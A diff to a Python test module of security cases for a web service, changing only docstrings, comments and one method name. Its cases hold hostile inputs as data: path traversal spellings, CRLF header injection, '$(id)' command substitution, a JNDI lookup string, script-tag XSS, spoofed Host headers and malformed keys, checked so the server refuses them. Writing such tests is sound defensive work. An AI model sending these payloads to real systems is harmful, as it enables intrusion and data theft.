@@ -1,6 +1,6 @@
-"""The security group of the catalogue: requests with their port and key, what may come of each, and what must not.
+"""Security cases: requests with their port and key, the statuses allowed, and text that must not be in the response.
 
-Written for any server with the service's routes. EVIL stands wherever a value of the client's could come back.
+They suit any server with the service's routes. EVIL stands in every value that a response could repeat.
 """
 
 from collections.abc import Iterator
@@ -13,16 +13,16 @@ from tests.unit.service.access.test_access import ROLES
 
 EVIL = "evil7f3a"
 NEVER = (b"set-cookie", b"access-control-allow", b"traceback", b"root:x:", b"location: ", EVIL.encode())
-"""In any answer to these requests, in small letters."""
+"""Not allowed in any response to these requests, compared in lower case."""
 VERSION = "0" * 16
 NO_VERSION = b"bundle must be a version id"
-"""Said of what was not even looked up."""
+"""The error for a name that is not looked up."""
 TICKET = as_json({"body": "hello"})
 
 
 @dataclass(frozen=True, slots=True)
 class SecurityCase:
-    """`allowed`: statuses. `never`: what must not stand in the answer; `wanted`: what must."""
+    """`allowed`: statuses. `never`: text that the response must not hold; `wanted`: text that it must."""
 
     name: str
     port: str
@@ -31,7 +31,7 @@ class SecurityCase:
     never: tuple[bytes, ...] = NEVER
     wanted: bytes = b""
 
-    def held(self, received: bytes) -> bool:
+    def passed(self, received: bytes) -> bool:
         told = received.lower()
         if not received or int(received.split(maxsplit=2)[1]) not in self.allowed:
             return False
@@ -39,12 +39,12 @@ class SecurityCase:
 
 
 def security_cases(url: str) -> list[SecurityCase]:
-    """Every case. `url`: of a server of the tests' that nobody must ever call."""
+    """Every case. `url`: a server of the tests that must never be called."""
     return [*_ports(), *_paths(), *_bundles(url), *_ids(), *_hosts(), *_keys(), *_browsers()]
 
 
 def get(path: str, *lines: str, known: Known | None = ROUTER, method: str = "GET", host: bool = True) -> bytes:
-    """Its path may hold anything but blanks."""
+    """The path may hold any character except blanks."""
     own = [f"{name}: {value}" for name, value in (known.header if known else {}).items()]
     return head("Connection: close", *own, *lines, request=f"{method} {path} HTTP/1.1", kind=None, host=host)
 
@@ -54,7 +54,7 @@ def _reload(name: object, *lines: str) -> bytes:
 
 
 def _ports() -> Iterator[SecurityCase]:
-    """What one port has, the other has not, whoever asks."""
+    """A route exists on one port only, for every caller."""
     for path in ROLES:
         other = "management" if path.startswith("/v1") else "public"
         for known in (None, ROUTER, OPS):
@@ -63,7 +63,7 @@ def _ports() -> Iterator[SecurityCase]:
 
 
 def _paths() -> Iterator[SecurityCase]:
-    """No spelling of a guarded path leads round its guard, and none out of a folder."""
+    """No spelling of a guarded path avoids its guard, and none leaves a folder."""
     spellings = ["//{}", "/./{}", "/x/../{}", "/%2e/{}", "/{}/", "/{};a=b", "/{}%00", "/{}%2f", "/{}?", "/{}%20"]
     for spelling in spellings:
         for port, path in (("public", "v1/model"), ("management", "admin/status")):
@@ -81,7 +81,7 @@ def _paths() -> Iterator[SecurityCase]:
 
 
 def _bundles(url: str) -> Iterator[SecurityCase]:
-    """A bundle is looked up by its version, and nothing else is made a path of."""
+    """A bundle is looked up by its version; no other text becomes part of a path."""
     names: list[object] = ["../../etc", "/etc", "..", ".", "", "current", "./" + VERSION, VERSION + "/..", "a" * 9000]
     names += ["\0", VERSION + "\0", VERSION + "\n", " " + VERSION, VERSION + "\r\nSet-Cookie: a=b", "A" * 16]
     names += ["%2e%2e%2f", "\uff10" * 16, "\u0660" * 16, "\\\\host\\share", "~root", "$HOME", "$(id)", EVIL]
@@ -97,7 +97,7 @@ def _bundles(url: str) -> Iterator[SecurityCase]:
 
 
 def _ids() -> Iterator[SecurityCase]:
-    """An id that is not well-formed is replaced; a line break in one is a line break in nothing."""
+    """A malformed id is replaced, and a line break in an id never breaks a line."""
     values = [f"{EVIL} a", f"{EVIL}%0d%0aSet-Cookie: a=b", f"{EVIL}\x1b[31m", f"<script>{EVIL}</script>", f"{EVIL}é"]
     values += [f'{EVIL}","level":"fake', EVIL * 1000, f"{EVIL}\t", f"{EVIL}/../x", f"${{jndi:ldap://{EVIL}}}"]
     for value in values:
@@ -107,7 +107,7 @@ def _ids() -> Iterator[SecurityCase]:
     yield SecurityCase("a request id and then lines", "public", split, frozenset({200}), wanted=b"x-request-id: a\r\n")
     kept = tuple(word for word in NEVER if word != EVIL.encode())
     breaks = as_json({"id": f"{EVIL}\r\nSet-Cookie: a=b\r\n\r\n<script>", "body": "a"})
-    # Its own id comes back in the body, as JSON; in the head there would be a line break before it.
+    # the ticket's own id comes back in the body as JSON; in the head a line break would precede it
     never = (*(word for word in kept if word != b"set-cookie"), b"\r\nset-cookie", EVIL.encode() + b"\r")
     yield SecurityCase("a ticket's id with line breaks", "public", post("/v1/route", breaks), frozenset({200}), never)
     page = post("/v1/route", as_json({"id": "<script>alert(1)</script>", "body": "a"}))
@@ -115,7 +115,7 @@ def _ids() -> Iterator[SecurityCase]:
 
 
 def _hosts() -> Iterator[SecurityCase]:
-    """What a client says of hosts and addresses is believed nowhere, and repeated nowhere."""
+    """Hosts and addresses in a request are not trusted and not repeated."""
     for port, path, known in (("public", "/v1/model", ROUTER), ("management", "/admin/status", OPS)):
         for host in (EVIL, f"{EVIL}.example:1", f"127.0.0.1@{EVIL}", f"{EVIL}/../x", f'"><script>{EVIL}'):
             raw = get(path, f"Host: {host}", known=known, host=False)
@@ -132,7 +132,7 @@ def _hosts() -> Iterator[SecurityCase]:
 
 
 def _keys() -> Iterator[SecurityCase]:
-    """What is no key is 401, whatever its bytes; a key in the address is refused."""
+    """Any bytes that are not a key give 401; a key in the URL is refused."""
     for port, path in (("public", "/v1/model"), ("management", "/admin/status")):
         for value in ("trk_\xe9\xff" * 9, "trk_é€" * 9, "trk_" + "A" * 43, "\x7f", "trk_" + "'" * 43, "*", "null"):
             raw = get(path, f"Authorization: Bearer {value}", known=None).replace(b"\xc2", b"\xff")
@@ -147,7 +147,7 @@ def _keys() -> Iterator[SecurityCase]:
 
 
 def _browsers() -> Iterator[SecurityCase]:
-    """A web page can neither read an answer nor have an administrator's thing done; pages bring a policy."""
+    """A web page can neither read a response nor act as an administrator; pages have a Content-Security-Policy."""
     origin = f"Origin: http://{EVIL}"
     for port, path, known in (("public", "/v1/model", ROUTER), ("management", "/admin/status", OPS)):
         yield SecurityCase(f"{path} from a page", port, get(path, origin, known=known), frozenset({200}))
